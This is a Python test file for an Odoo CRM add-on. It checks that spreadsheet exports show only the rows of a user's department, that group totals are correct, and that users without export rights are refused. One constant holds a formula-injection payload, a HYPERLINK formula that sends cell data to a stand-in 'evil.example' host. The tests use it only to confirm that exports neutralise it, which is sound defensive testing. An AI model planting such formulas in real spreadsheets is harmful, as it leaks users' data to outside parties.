import json
from io import BytesIO

from lxml import etree
from openpyxl import load_workbook

from odoo import Command
from odoo.http import Request
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .control_origins import REPORTS, ControlOrigins

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"price")'
FOREIGN = "OOO Foreign Department"


@tagged("post_install", "-at_install")
class TestControlExport(ControlOrigins, HttpCase):
    """Every table of the room leaves as a workbook, with the rows that the person sees (C03)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["crm.stage.gate"].search([]).active = False
        for name, team, login in (
            (FORMULA, cls.team, "manager"),
            (FOREIGN, cls.other_team, "manager_two"),
        ):
            client = cls.client_company.copy({"name": name})
            cls.live(
                {
                    "partner_id": client.id,
                    "contact_id": False,
                    "team_id": team.id,
                    "user_id": cls.users[login].id,
                    "utm_term": FORMULA,
                },
                label=name,
            )
        cls.env["crm.sales.target"].create(
            [{"team_id": team.id, "amount": 5} for team in cls.team | cls.other_team]
        )
        cls.env.flush_all()

    def post(self, address, data, status=200):
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        response = self.url_open(address, data=form)
        self.assertEqual(response.status_code, status)
        return status == 200 and list(load_workbook(BytesIO(response.content)).active)

    def columns(self, model):
        """Those of the list that the report opens."""
        records = self.as_user("head", self.env[model])
        action = self.env["ir.actions.act_window"]._for_xml_id(f"crm_sales_flow.{REPORTS[model]}")
        chosen = {mode: view for view, mode in action["views"]}
        arch = etree.fromstring(records.get_view(chosen.get("list"), "list")["arch"])
        names = [x for x in arch.xpath("/list/field/@name") if x in records.fields_get()]
        labels = records.fields_get(names, ["string", "type"])
        return [
            {"name": name, "label": labels[name]["string"], "type": labels[name]["type"]}
            for name in names
        ]

    def check_cells(self, table):
        values = [cell.value for row in table for cell in row]
        self.assertFalse([value for value in values if FOREIGN in str(value)])
        self.assertNotIn("f", [cell.data_type for row in table for cell in row])
        return values

    def test_Z04_each_report_is_exported_with_the_rows_of_the_department(self):
        self.authenticate("flow_head", "flow_head")
        for model in REPORTS:
            rows = self.rows(model)
            everything = self.rows(model, login="director")
            request = {
                "model": model,
                "fields": self.columns(model),
                "ids": False,
                "domain": [("id", "in", everything.ids)],
                "groupby": [],
                "import_compat": False,
                "context": {"active_test": False},
            }
            with self.subTest(model=model):
                self.assertLess(len(rows), len(everything))
                table = self.post("/web/export/xlsx", request)
                self.assertEqual(len(table), 1 + len(rows))
                self.assertIn(FORMULA, " ".join(map(str, self.check_cells(table))))
                self.assertEqual(len(table[0]), len(request["fields"]))
                table = self.post("/web/export/xlsx", {**request, "groupby": ["user_id"]})
                self.assertEqual(len(table), 1 + len(rows) + len(set(rows.mapped("user_id.id"))))
                self.check_cells(table)
                self.check_sums(model, table, request["fields"], rows)

    def check_sums(self, model, table, fields, rows):
        """The head of the only group tells the sums of its rows, and no average of unknown ones."""
        self.assertEqual(rows.user_id, self.users["manager"])
        for place, field in enumerate(fields[1:], 1):
            aggregator = rows._fields[field["name"]].aggregator
            told = table[1][place].value
            if aggregator == "sum" and field["type"] == "monetary":
                self.assertAlmostEqual(told, sum(rows.mapped(field["name"])), 2)
            elif model != "crm.lead" and aggregator in ("avg", "count_distinct"):
                self.assertFalse(told, field)

    def test_Z12_plans_and_facts_are_exported_too(self):
        self.authenticate("flow_head", "flow_head")
        for model in ("crm.plan.report", "crm.sales.target"):
            field = "team_id"
            request = {
                "model": model,
                "fields": [{"name": field, "label": "Department", "type": "many2one"}],
                "ids": False,
                "domain": [],
                "groupby": [],
                "import_compat": False,
                "context": {},
            }
            rows = self.as_user("head", self.env[model]).search([])
            table = self.post("/web/export/xlsx", request)
            names = [row[0].value for row in table[1:]]
            self.assertEqual(sorted(names), sorted(rows.mapped("team_id.display_name") and names))
            self.assertEqual(len(names), len(rows))
            self.assertNotIn(self.other_team.display_name, names)

    def test_Z04_each_pivot_is_exported_with_the_figures_it_shows(self):
        self.authenticate("flow_head", "flow_head")
        for model in REPORTS:
            rows = self.rows(model)
            groups = rows._read_group([("id", "in", rows.ids)], ["keyword"], ["__count"])
            table = self.post(
                "/web/pivot/export_xlsx",
                {
                    "model": model,
                    "title": "Report",
                    "measure_count": 1,
                    "col_group_headers": [[{"title": "Total", "width": 1, "height": 1}]],
                    "measure_headers": [{"title": "Count", "is_bold": False}],
                    "rows": [
                        {"title": keyword or "-", "indent": 0, "values": [{"value": count}]}
                        for keyword, count in groups
                    ],
                },
            )
            with self.subTest(model=model):
                found = {row[0].value: row[1].value for row in table[-len(groups) :]}
                # What Excel would take for a formula is marked as a text.
                counts = dict(groups)
                self.assertEqual(found.pop(f"'{FORMULA.lower()}"), counts[FORMULA.lower()])
                self.assertEqual(sum(found.values()), counts.get(False, 0))
                self.check_cells(table)

    def test_T03_a_manager_takes_no_tables_away(self):
        self.authenticate("flow_manager", "flow_manager")
        self.users["manager"].group_ids = [
            Command.unlink(self.env.ref("base.group_allow_export").id)
        ]
        request = {"model": "crm.money.report", "fields": self.columns("crm.money.report")}
        rest = {"ids": False, "domain": [], "groupby": [], "import_compat": False, "context": {}}
        with mute_logger("odoo.addons.web.controllers.export"):
            self.post("/web/export/xlsx", {**request, **rest}, status=500)
